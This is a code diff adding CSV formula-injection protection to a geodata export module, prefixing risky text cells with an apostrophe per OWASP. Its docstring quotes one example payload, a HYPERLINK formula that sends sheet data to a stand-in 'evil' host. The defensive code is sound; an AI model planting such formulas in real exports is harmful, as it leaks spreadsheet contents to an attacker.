@@ -3,12 +3,15 @@
 Every writer takes the ``{name: GeoDataFrame}`` of :func:`placemap.maps.build_layers`,
 writes a temporary file beside the target and renames it into place, so a reader never
 sees half a file and a failed export leaves the old one. Text is written raw (exports are
-data, not pages); every column of the layers is kept.
+data, not pages); every column of the layers is kept. The one exception is the CSV, which
+spreadsheets open: a text cell that a spreadsheet would run as a formula is neutralised
+(:func:`neutralise_formula`).
 """
 
 from __future__ import annotations
 
 import os
+import re
 from collections.abc import Iterable, Mapping
 from pathlib import Path
 from typing import TYPE_CHECKING
@@ -18,7 +21,41 @@ from placemap.atomic import atomic_path
 if TYPE_CHECKING:
     import geopandas as gpd
 
-__all__ = ["combined", "write_csv", "write_geojson", "write_gpkg"]
+__all__ = ["combined", "neutralise_formula", "write_csv", "write_geojson", "write_gpkg"]
+
+#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+#: A plain number, which a leading sign does not make a formula ("-12.5", "+3e4").
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def neutralise_formula(value: object) -> object:
+    """Return ``value`` with a ``'`` in front when a spreadsheet would run it as a formula.
+
+    News text and users' place names are hostile input: ``=HYPERLINK("http://evil/?"&A1)``
+    in a CSV cell leaks the sheet when it is opened. As OWASP recommends, a text cell that
+    opens with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe,
+    which spreadsheets show as text. Plain numbers ("-12.5") and anything not a string
+    are returned unchanged.
+
+    Parameters
+    ----------
+    value : object
+        A cell.
+
+    Returns
+    -------
+    object
+        The cell, safe to open in a spreadsheet.
+
+    Examples
+    --------
+    >>> neutralise_formula("=1+2"), neutralise_formula("-12.5"), neutralise_formula("Kyiv")
+    ("'=1+2", '-12.5', 'Kyiv')
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def combined(layers: Mapping[str, gpd.GeoDataFrame], names: Iterable[str] | None = None) -> gpd.GeoDataFrame:
@@ -71,7 +108,11 @@ def write_csv(
     layers: Mapping[str, gpd.GeoDataFrame], path: str | os.PathLike[str], *, names: Iterable[str] | None = None
 ) -> Path:
     """Write one CSV row per feature: every column, ``lat``/``lon`` of the event's point
-    (a line's start, an area's representative point) and the geometry as WKT."""
+    (a line's start, an area's representative point) and the geometry as WKT.
+
+    Text cells a spreadsheet would run as formulas are neutralised (:func:`neutralise_formula`).
+    """
+    import pandas as pd
     import shapely
 
     frame = combined(layers, names)
@@ -83,6 +124,11 @@ def write_csv(
     table["lat"] = table["lat"].where(table["lat"].notna(), shapely.get_y(anchor))
     table["lon"] = table["lon"].where(table["lon"].notna(), shapely.get_x(anchor))
     table["wkt"] = shapely.to_wkt(geometry, rounding_precision=7, trim=True)
+    for column in table.columns:
+        if not pd.api.types.is_numeric_dtype(table[column]):
+            table[column] = table[column].map(neutralise_formula)
     with atomic_path(path) as temporary:
-        table.to_csv(temporary, index=False, encoding="utf-8")
+        # RFC 4180's CRLF: the csv module then quotes a cell holding a lone CR, which would
+        # otherwise end the row early in every reader.
+        table.to_csv(temporary, index=False, encoding="utf-8", lineterminator="\r\n")
     return Path(path)
